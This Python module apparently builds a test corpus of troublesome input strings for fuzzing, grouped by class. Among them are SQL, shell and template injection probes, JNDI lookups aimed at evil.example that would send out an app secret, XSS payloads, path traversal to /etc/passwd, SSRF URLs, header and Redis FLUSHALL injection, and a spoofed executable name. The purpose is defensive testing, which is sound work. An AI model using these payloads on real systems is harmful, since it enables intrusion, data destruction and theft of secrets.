"""Strings that programs have stumbled over, by class, made from tables and ranges."""

# ruff: noqa: RUF001, SIM905  letters that look like others are what they are for

from __future__ import annotations

from itertools import product

_WORDS = (
    "undefined undef null NULL nil NIL None NaN nan Infinity -Infinity inf true TRUE false False "
    "constructor prototype __proto__ __init__ hasOwnProperty toString valueOf length then await "
    "self this class def import eval exec CON PRN AUX NUL COM1 LPT1 admin root default tenant "
    "user app none localhost Nobody Scunthorpe"
).split()
_NUMBERS = (
    "0 -0 1 -1 00 01 +1 1.0 1.00 .5 5. 1e2 1E+2 1e400 -1e-400 1/2 1/0 0/0 $1 1% 0x0 0xFFFFFFFF "
    "0xabad1dea 0b1 0o17 1,000 1_000 1'000 1.000,00 2147483647 2147483648 -2147483649 4294967296 "
    "9007199254740993 9223372036854775808 18446744073709551616 123456789012345678901234567890 "
    "1..2 1--1 -- -. NaN0 1e 1L 1n 1f ٠١٢٣ １２３ ²³ ½ Ⅷ 一二三 ∞"
).split()
_SQL = [
    f"{quote}{middle}{tail}"
    for quote, middle, tail in product(
        ("'", '"', "1;"), (" OR 1=1", "; DROP TABLE calls", " UNION SELECT 1"), ("--", "#", "/*")
    )
]
_SHELL = [
    template.format(command)
    for template in (
        *("; {}", "| {}", "& {}", "&& {}", "$({})", "`{}`", "\n{}", "> /tmp/{}", "${{{}}}"),
    )
    for command in ("id", "touch x")
]
_TEMPLATES = [
    opening + middle + closing
    for opening, closing in (
        *(("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}"), ("[[", "]]")),
        *(("$(", ")"), ("@{", "}"), ("%{", "}"), ("{", "}")),
    )
    for middle in ("7*7", "self.__class__")
]
_FORMATS = (
    "%s %d %n %x %p %c %% %99999d %1$s %s%s%s%s %*.*s {} {0} {0.__class__} {name!r} {:>99999} "
    "%(name)s %@ \\u0041 \\x41 \\n \\0 &#65; &lt; &nbsp; %00 %0d%0a %u0041 =1+1 @SUM(1)"
).split()
_JNDI = [
    f"${{{word}:{scheme}://evil.example/{path}}}"
    for word in ("jndi", "${lower:j}ndi")
    for scheme in ("ldap", "rmi", "dns")
    for path in ("a", "${env:LARK_APP_SECRET}")
]
_MARKUP = [
    wrap.format(event)
    for wrap in ("<script>{}</script>", '"><img src=x onerror={}>', "<svg/onload={}>", "<!--{}-->")
    for event in ("alert(1)", "a", "]]>")
] + ["<?xml version='1.0'?>", '<!DOCTYPE a [<!ENTITY b "c">]>', "&b;", "<![CDATA[a]]>"]
_PATHS = [
    up * depth + target
    for up in ("../", "..\\", "%2e%2e/", "..%2f", "....//", "..;/")
    for depth in (1, 4)
    for target in ("admin", "etc/passwd")
] + [
    *("/", "//", "/etc/passwd", "\\\\server\\share", "C:\\boot.ini", "~root", "file:///etc/passwd"),
    *("a/b", "a//b", "a/./b", "a/../b", ".", "..", "...", "./", "/.", ".git", "a.", "x/", ":a"),
    ":",
]
_URLS = (
    "http://evil.example https://evil.example/a //evil.example @evil.example u:p@evil.example "
    ".evil.example :443@evil.example javascript:alert(1) data:text/html,a gopher://evil.example:70 "
    "http://[::1]/ http://127.0.0.1 http://0x7f.1 http://2130706433 http://evil.example#@a "
    "http://evil。example http://xn--80ak6aa92e.example ?a=b #a &a=b ;a=b a=b"
).split()
_LINES = [
    f"a{line}{more}"
    for line in ("\r\n", "\n", "\r", "\r\n ", "\x0b", "\x0c", "\x85", "\u2028", "\u2029")
    for more in ("Authorization: Bearer t-x", "\r\nHTTP/1.1 200 OK")
]
_STORES = (
    "* ? [a-z] {tag} a{b}c KEYS* *1\r\n$8\r\nFLUSHALL\r\n redis.call('flushall') return(1) "
    "a:b:c lark:* # #.# a.# *.interactive default.* lark.dead amq.direct (a+)+$ ^a|b$ [ ( * \\ "
    "a\\ $where {$gt:1} ' \" ` ´"
).split(" ")
_SECRETS = [
    "t-" + "g" * 32,
    "u-" + "A1" * 20,
    "Bearer " + "t-" + "0" * 30,
    "Basic YWRtaW46c2VjcmV0",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.c2ln",
    "app_secret=abcdefghijklmnop",
    '{"app_secret": "abcdefghijklmnop"}',
    "amqp://user:password@host/",
    "password: hunter22",
    "-----BEGIN PRIVATE KEY-----",
]
_CODES = [
    *(f"a{chr(code)}b" for code in (*range(0x20), 0x7F)),
    *(f"a{chr(code)}" for code in range(0x80, 0xA0, 8)),
]
_BLANKS = [
    f"a{char}b"
    for char in "\xa0\u1680\u2000\u2003\u2007\u2009\u200a\u202f\u205f\u3000\u180e\u2800\u3164\uffa0"
] + [" ", "  ", " a", "a ", "\t", "a b"]
_INVISIBLE = [
    f"a{chr(code)}b"
    for code in (
        *(0xAD, 0x34F, 0x61C, *range(0x200B, 0x2010), *range(0x202A, 0x202F)),
        *(*range(0x2060, 0x2070), 0xFE00, 0xFE0F, 0xFEFF, *range(0xFFF9, 0xFFFE)),
        *(0xE0001, 0xE0041, 0xE007F, 0xE0100, 0x1D173),
    )
]
_PUNCTUATION = [*"!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", "!@#$%^&*()", '<>?:"{}|_+', ",./;'[]\\-="]
_SCRIPTS = (
    "订单号 注文番号 주문번호 заказ παραγγελία הזמנה طلب अनुरोध คำสั่ง đơn-hàng ğüşiöç ÅÄÖ ẞß İı ŉ ﬁﬂ "
    "ǅ K Å Ω ﷽ ﷺ 𠜎𠜱𠝹 𝓪𝓫𝓬 𝟙𝟚 ᚠᛇᚻ ⠁⠂ ⅯⅭ ⁰⁴⁵ ₀₁₂ ©®™ €£¥₿ ±×÷≠ ←↑→↓ ░▒▓█ ☃☂☠ ♔♕ （全角） ＡＢＣ "
    "／．．／ ∕ ⁄ ‥ … “ ” ‘ ’ „ « » ‹ ´ ｀ – — ― ・ 。、"
).split()
_EMOJI = ("😀 👍🏽 👩‍👩‍👧‍👦 🏳️‍🌈 🇨🇳 🇺🇳🇺 1️⃣ #️⃣ ❤️ ❤ 👨🏿‍🚀 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🫠 😀😀😀 ㊙️ ™️ 🦄a").split()
_BIDI = [
    "\u202eabc\u202c",
    "a\u202eb/c\u202d",
    "\u2067שלום\u2069 abc",
    "\u200fabc\u200e",
    "مرحبا123",
    "\u2066a\u2067b\u2068c",
    "invoice\u202egpj.exe",
]
_COMBINED = [
    "e\u0301",
    "\u00e9",
    "a" + "\u0300" * 64,
    "".join(f"{char}{chr(0x300 + place)}" for place, char in enumerate("ZALGO")),
    "\u1100\u1161\u11a8",
    "\uac01",
    "\u0301",
    "\ue000\uf8ff",
    "\ufffd",
    "\uffff",
    "\U0010ffff",
    "\ufdd0",
    "\U0001f3fb",
    "\u0e49" * 30,
    "\u05d0\u05b0" * 9,
]
_SURROGATES = ["\ud800", "\udfff", "a\ud83d", "\udc00\ud800", "x\udcffy", "\udbff\udbff"]
_LONG = [
    letter * length
    for length in (63, 64, 65, 127, 128, 129, 255, 256, 257, 512, 1024, 1025, 4096, 65_536)
    for letter in ("x", "字")
]


def strings() -> list[str]:
    """All of them, no two alike, the empty one first."""
    classes = (
        *(_WORDS, _NUMBERS, _SQL, _SHELL, _TEMPLATES, _FORMATS, _JNDI, _MARKUP, _PATHS, _URLS),
        *(_LINES, _STORES, _SECRETS, _CODES, _BLANKS, _INVISIBLE, _PUNCTUATION, _SCRIPTS),
        *(_EMOJI, _BIDI, _COMBINED, _SURROGATES, _LONG),
    )
    return list(dict.fromkeys(["", *(one for each in classes for one in each)]))
